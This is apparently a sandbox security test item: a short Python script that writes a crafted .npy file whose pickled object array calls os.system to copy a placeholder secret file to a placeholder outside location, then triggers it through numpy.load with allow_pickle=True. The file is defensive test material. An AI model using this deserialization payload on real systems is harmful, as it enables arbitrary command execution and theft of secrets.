# category: filesystem
# attack: a crafted .npy whose object array is a pickle calling os.system, loaded with numpy.load(allow_pickle=True)
# profile: data_science filesystem basic
import numpy, pathlib
payload = b"cos\nsystem\n(S'cat @SECRET_FILE@ > @OUTSIDE@'\ntR."
header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
header = header + " " * (63 - len(header) % 64) + "\n"
data = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode()
pathlib.Path("evil.npy").write_bytes(data + payload)
print(numpy.load("evil.npy", allow_pickle=True))
